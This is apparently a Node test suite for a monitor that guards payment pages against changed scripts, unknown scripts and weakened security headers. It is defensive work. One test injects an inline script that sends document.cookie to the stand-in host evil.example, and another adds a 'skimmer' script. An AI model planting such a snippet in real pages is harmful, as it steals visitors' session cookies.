// The payment-page monitor against a site served for real on the loopback (a host build and four
// remote builds in a temporary folder, pinned as the host's server pins builds served in place):
// nothing changed → no difference and exit 0; a remote's chunk, a page's script or a security
// header changed on the server → an alert naming it, and exit 1 from the command.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, beforeEach, describe, test } from 'node:test';
import { APPS } from '../apps.mjs';
import { BOOT_SCRIPT, NONCE_MARK } from '../compose/html.js';
import { newNonce } from '../http/headers.js';
import { INVENTORY } from './inventory.js';
import { checkPaymentPages, reportLines } from './monitor.js';
import { createWebMetrics } from '../http/metrics.js';
import { monitorMinutes, monitorOptionsFrom, schedulePaymentMonitor } from './run.js';

const REMOTES = APPS.flatMap((app) => (app.remote ? [app.name] : []));
const CLI = join(import.meta.dirname, '..', 'cli', 'monitor.ts');

/** Writes `files` (path → text) under `root`. */
function writeBuild(root: string, files: Record<string, string>) {
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), text);
  }
}

void describe('the payment-page monitor', () => {
  const folder = mkdtempSync(join(tmpdir(), 'hypertek-monitor-'));
  const hostRoot = join(folder, 'host');
  let server: Server;
  let site = '';
  let env: NodeJS.ProcessEnv = {};
  /** What the site serves: files by path, and changes a test makes to the pages. */
  let served = new Map<string, string>();
  let pageExtra = '';
  let headerChange: (headers: Record<string, string>) => void = () => {};

  const page = (nonce: string) =>
    '<!doctype html><html><head>' +
    BOOT_SCRIPT.replaceAll(NONCE_MARK, nonce) +
    `<link rel="preload" as="script" href="/static/js/main.1a2b.js" nonce="${nonce}" data-boot>` +
    `<link rel="preload" as="script" href="${site}/remotes/checkout/remoteEntry.js" crossorigin nonce="${nonce}">` +
    `<script type="application/json" id="runtime-config">${JSON.stringify({
      remotes: Object.fromEntries(REMOTES.map((r) => [r, `${site}/remotes/${r}/mf-manifest.json`])),
    })}</script>` +
    `</head><body>${pageExtra}<div id="root"></div></body></html>`;

  before(async () => {
    writeBuild(hostRoot, {
      'index.html': '<!doctype html>',
      'static/js/main.1a2b.js': 'globalThis.host = 1;',
      'static/js/route.3c4d.js': 'globalThis.route = 1;',
    });
    for (const remote of REMOTES)
      writeBuild(join(folder, remote), {
        'mf-manifest.json': JSON.stringify({ name: remote }),
        'remoteEntry.js': `globalThis.${remote} = 1;`,
        'static/js/__federation_expose_page.5e6f.js': `globalThis.${remote}Page = 1;`,
        'static/js/9.7a8b.js': `globalThis.${remote}Chunk = 1;`,
      });
    server = createServer((req, res) => {
      const path = new URL(req.url ?? '/', 'http://x').pathname;
      if (INVENTORY.pages.paths.includes(path)) {
        const nonce = newNonce();
        const headers = monitorOptionsFrom({ env, hostRoot }).expectedHeaders?.(nonce) ?? {};
        headerChange(headers);
        res.writeHead(200, { ...headers, 'content-type': 'text/html; charset=utf-8' });
        res.end(page(nonce));
        return;
      }
      const body = served.get(path);
      res.writeHead(body === undefined ? 404 : 200);
      res.end(body ?? 'missing');
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    site = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    env = {
      PATH: process.env.PATH,
      SITE_URL: site,
      PUBLIC_API_URL: `${site}/api/v1`,
      RELEASES_DIR: join(folder, 'releases'),
      ...Object.fromEntries(
        REMOTES.flatMap((r) => [
          [`REMOTE_${r.toUpperCase()}_URL`, `${site}/remotes/${r}/mf-manifest.json`],
          [`REMOTE_${r.toUpperCase()}_BUILD`, join(folder, r)],
        ]),
      ),
    };
  });
  after(() => {
    server.close();
    rmSync(folder, { recursive: true, force: true });
  });
  beforeEach(() => {
    // The site serves exactly the builds.
    served = new Map([
      ['/static/js/main.1a2b.js', 'globalThis.host = 1;'],
      ['/static/js/route.3c4d.js', 'globalThis.route = 1;'],
    ]);
    for (const remote of REMOTES)
      for (const file of [
        'mf-manifest.json',
        'remoteEntry.js',
        'static/js/__federation_expose_page.5e6f.js',
        'static/js/9.7a8b.js',
      ])
        served.set(`/remotes/${remote}/${file}`, readFileSync(join(folder, remote, file), 'utf8'));
    pageExtra = '';
    headerChange = () => {};
  });

  const check = async () => {
    const report = await checkPaymentPages(monitorOptionsFrom({ env, hostRoot }));
    return { report, details: report.findings.map((f) => `${f.page} ${f.kind}: ${f.detail}`) };
  };
  /** The command's exit code and output (run beside this process, which serves the site). */
  const command = () =>
    new Promise<{ status: number | null; output: string }>((resolve) => {
      execFile(
        process.execPath,
        ['--import', 'tsx', CLI, '--host-build', hostRoot],
        { env, timeout: 60_000 },
        (error, stdout, stderr) =>
          resolve({ status: error ? (error.code as number | null) : 0, output: stdout + stderr }),
      );
    });

  void test('nothing changed: no difference, and the command exits 0', async () => {
    const { report, details } = await check();
    assert.deepEqual(details, [], reportLines(report).join('\n'));
    assert.equal(report.pages, INVENTORY.pages.paths.length);
    // The boot script, the host's entry, and each remote's four files.
    assert.equal(report.scripts, 2 + REMOTES.length * 3, reportLines(report).join('\n'));
    const run = await command();
    assert.equal(run.status, 0, run.output);
    assert.match(run.output, /7 payment pages and \d+ scripts checked .*: no difference/);
  });

  void test("a remote's chunk changed on its server is an alert, and the command exits 1", async () => {
    served.set('/remotes/checkout/static/js/9.7a8b.js', 'globalThis.checkoutChunk = 2;');
    const { details } = await check();
    assert.equal(details.length, 1, details.join('\n'));
    assert.match(
      details[0] ?? '',
      /^checkout release script: http:\/\/127\.0\.0\.1:\d+\/remotes\/checkout\/static\/js\/9\.7a8b\.js: checkout-remote: its bytes \(sha384-[^)]+\) are not the recorded sha384-/,
    );
    const run = await command();
    assert.equal(run.status, 1, run.output);
    assert.match(run.output, /ALERT checkout release script: .*9\.7a8b\.js/);
  });

  void test('a script added to the payment pages is an alert: inline, or a file the host never built', async () => {
    pageExtra = '<script>fetch("https://evil.example/?" + document.cookie)</script>';
    let { details } = await check();
    assert.equal(details.length, INVENTORY.pages.paths.length, details.join('\n'));
    assert.match(
      details[0] ?? '',
      /^\/stripe-payment script: an inline script \(sha384-[^)]+\): not in the payment pages’ script inventory$/,
    );
    pageExtra = '<script src="/static/js/skimmer.js"></script>';
    served.set('/static/js/skimmer.js', 'steal()');
    ({ details } = await check());
    assert.match(
      details[0] ?? '',
      /^\/stripe-payment script: http:\/\/127\.0\.0\.1:\d+\/static\/js\/skimmer\.js: host-app: no recorded digest \(host-build\) for it$/,
    );
    // JSON data never runs: not a script.
    pageExtra = '<script type="application/ld+json">{"@type":"Product"}</script>';
    assert.deepEqual((await check()).details, []);
  });

  void test("another remote's code named by a payment page loaded on its own is an alert", async () => {
    pageExtra = `<link rel="modulepreload" href="${site}/remotes/marketplace/remoteEntry.js">`;
    const { details } = await check();
    assert.match(
      details[0] ?? '',
      /remotes\/marketplace\/remoteEntry\.js: marketplace-remote may be in the document only after a link inside the site, not on a payment page loaded on its own$/,
    );
  });

  void test('a security header removed or weakened is an alert, and the command exits 1', async () => {
    headerChange = (headers) => {
      delete headers['X-Frame-Options'];
      headers['Content-Security-Policy'] = (headers['Content-Security-Policy'] ?? '').replace(
        "'strict-dynamic'",
        "'strict-dynamic' 'unsafe-eval'",
      );
    };
    const { details } = await check();
    const first = details.filter((line) => line.startsWith('/stripe-payment '));
    assert.deepEqual(
      first.map((line) => line.replace(/"[^"]*"/g, '"…"')),
      [
        "/stripe-payment header: Content-Security-Policy: script-src names 'unsafe-eval'",
        '/stripe-payment header: X-Frame-Options: missing',
        '/stripe-payment header: X-Frame-Options: missing, not as configured "…"',
        '/stripe-payment header: Content-Security-Policy: "…", not as configured "…"',
      ],
      details.join('\n'),
    );
    const run = await command();
    assert.equal(run.status, 1, run.output);
    assert.match(run.output, /ALERT \/payment header: X-Frame-Options: missing/);
  });

  void test('a payment page that does not answer is an alert', async () => {
    const { details } = await check();
    assert.deepEqual(details, []);
    // Nothing listens on port 1 of the loopback.
    const gone = monitorOptionsFrom({
      env: { ...env, PAYMENT_MONITOR_URL: 'http://127.0.0.1:1/' },
      hostRoot,
    });
    const report = await checkPaymentPages(gone);
    assert.equal(
      report.findings.filter((f) => f.kind === 'page').length,
      INVENTORY.pages.paths.length,
    );
    assert.match(reportLines(report).at(-1) ?? '', /: 7 differences$/);
  });

  void test("the host's schedule logs each run's alerts and counts them in the metrics", async () => {
    assert.equal(monitorMinutes({}), null);
    assert.equal(monitorMinutes({ PAYMENT_MONITOR_MINUTES: '0' }), null);
    assert.equal(monitorMinutes({ PAYMENT_MONITOR_MINUTES: '15' }), 15);
    assert.throws(
      () => monitorMinutes({ PAYMENT_MONITOR_MINUTES: 'hourly' }),
      /PAYMENT_MONITOR_MINUTES="hourly": minutes between 1 and 1440, or 0 for none/,
    );
    served.set('/remotes/checkout/remoteEntry.js', 'globalThis.skimmer = 1;');
    const metrics = createWebMetrics({ app: 'host', env: {} });
    const lines: string[] = [];
    const ran = new Promise<void>((resolve) => {
      const schedule = schedulePaymentMonitor({
        minutes: 60,
        firstRunMs: 0,
        options: () => monitorOptionsFrom({ env, hostRoot }),
        log: (line) => lines.push(line),
        ran: (report) => {
          metrics.paymentMonitorRan(report.findings);
          schedule.stop();
          resolve();
        },
      });
    });
    await ran;
    assert.equal(
      lines[0],
      'payment-monitor: checks the payment pages every 60 min (PAYMENT_MONITOR_MINUTES)',
    );
    assert.ok(
      lines.some((line) =>
        /^payment-monitor: ALERT \/stripe-payment script: .*remotes\/checkout\/remoteEntry\.js: checkout-remote: its bytes/.test(
          line,
        ),
      ),
      lines.join('\n'),
    );
    const server = createServer((req, res) => void metrics.serve(req, res));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    try {
      const { port } = server.address() as AddressInfo;
      const text = await (await fetch(`http://127.0.0.1:${port}/metrics`)).text();
      // The entry is named by all seven pages and is a file of the release: eight alerts.
      assert.match(
        text,
        /hypertek_payment_page_alerts_total\{kind="script",app="host"\} 8\n/,
        text,
      );
      assert.match(text, /hypertek_payment_page_differences\{app="host"\} 8\n/);
      assert.match(
        text,
        /hypertek_payment_page_monitor_last_run_timestamp_seconds\{app="host"\} \d+/,
      );
    } finally {
      server.close();
    }
  });
});
